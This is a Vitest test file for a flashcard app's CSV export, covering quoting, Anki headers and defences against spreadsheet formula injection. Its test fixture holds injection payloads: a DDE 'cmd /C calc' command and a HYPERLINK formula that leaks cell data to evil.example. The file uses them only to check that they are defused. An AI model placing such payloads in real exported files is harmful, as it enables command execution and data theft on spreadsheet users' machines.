import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvField, exportDeckCsv, toCsv } from "@/app/lib/export/csv-export";
import { importDeckSource } from "@/app/lib/import";
import { mixedDeck } from "@/test/fixtures/anki/mixed-deck";
import { createTestDatabase, testProviders, type TestDatabase } from "@/test/helpers/databases";
import { notReverseCard } from "@/app/lib/study/quiz-mode";

/** An independent RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = "";
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") endField();
    else if (char === "\r" && text[i + 1] === "\n") {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += char;
  }
  return rows;
}

/** What OWASP's CSV-injection rule makes of a cell: a `'` before text a spreadsheet would run. */
const defused = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

const formulaDeck = `# Formulas

## =1+1

=1+2 :: +SUM(1,2)
-2+3 :: @SUM(1+1)*cmd|' /C calc'!A0
=HYPERLINK("http://evil.example/?leak="&A1, "click") :: plain answer
`;

describe("CSV quoting", () => {
  it("quotes only fields that need it, doubling quotes", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField(12)).toBe("12");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\rhere")).toBe('"cr\rhere"');
    expect(csvField(" padded")).toBe('" padded"');
    expect(
      toCsv([
        ["a", 'b"c'],
        ["1,2", "x"],
      ]),
    ).toBe('a,"b""c"\r\n"1,2",x\r\n');
  });

  it("puts a single quote before text a spreadsheet would run as a formula, inside a quoted field", () => {
    expect(csvField("=1+2")).toBe(`"'=1+2"`);
    expect(csvField("+1")).toBe(`"'+1"`);
    expect(csvField("-1")).toBe(`"'-1"`);
    expect(csvField("@SUM(A1)")).toBe(`"'@SUM(A1)"`);
    expect(csvField("\t=1")).toBe(`"'\t=1"`);
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    // OWASP's own examples: quotes inside are doubled, the field stays one cell.
    expect(csvField('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
    expect(csvField(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`);
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField(-5)).toBe("-5");
  });
});

describe.each(testProviders)("CSV export on %s", (provider) => {
  let db: TestDatabase;

  beforeAll(async () => {
    db = await createTestDatabase(provider);
  });
  afterAll(async () => {
    await db?.destroy();
  });

  it("writes a header and one row per live card that reads back to the stored fields", async () => {
    const imported = await importDeckSource(db.prisma, {
      ownerId: null,
      bytes: mixedDeck,
      sourcePath: "content/net.md",
      fileName: "net.md",
    });
    // A term card's stored reverse card is not exported: the term card stands for it.
    const cards = await db.prisma.card.findMany({
      where: { deckId: imported.deck.id, ...notReverseCard },
      orderBy: { position: "asc" },
    });
    const { csv, fileName } = await exportDeckCsv(db.prisma, imported.deck.slug, { userId: "local" });
    expect(fileName).toBe("net.csv");
    const rows = readCsv(csv);
    expect(rows[0]).toEqual(["front", "back", "kind", "context", "line"]);
    expect(rows.slice(1)).toEqual(
      cards.map((card) => [
        defused(card.front),
        defused(card.back),
        card.kind,
        defused((JSON.parse(card.context) as string[]).join(" > ")),
        String(card.line),
      ]),
    );
    // Commas, quotes and multi-line sides are all in the deck, so the quoting is exercised.
    expect(csv).toContain('"round-trip time, with ""quotes"", commas"');
    expect(csv).toContain('"Name the layers\nof the TCP/IP model"');
  });

  it("starts with Anki's file headers instead of a header row when asked", async () => {
    const { csv } = await exportDeckCsv(db.prisma, "net", { userId: "local", ankiHeaders: true });
    const lines = csv.split("\r\n");
    expect(lines.slice(0, 3)).toEqual([
      "#separator:comma",
      "#html:false",
      "#columns:front,back,kind,context,line",
    ]);
    const plain = (await exportDeckCsv(db.prisma, "net", { userId: "local" })).csv;
    expect(readCsv(lines.slice(3).join("\r\n"))).toEqual(readCsv(plain).slice(1));
  });

  it("leaves no cell a spreadsheet would run as a formula, in either form", async () => {
    const imported = await importDeckSource(db.prisma, {
      ownerId: null,
      bytes: formulaDeck,
      sourcePath: "content/formulas.md",
      fileName: "formulas.md",
    });
    for (const ankiHeaders of [false, true]) {
      const { csv } = await exportDeckCsv(db.prisma, imported.deck.slug, { userId: "local", ankiHeaders });
      const cells = readCsv(
        csv
          .split("\r\n")
          .filter((line) => !line.startsWith("#"))
          .join("\r\n"),
      ).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells).toEqual(
        expect.arrayContaining(["'=1+2", "'+SUM(1,2)", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"]),
      );
      expect(cells.filter((cell) => cell.startsWith("'=HYPERLINK("))).toHaveLength(1);
    }
  });
});
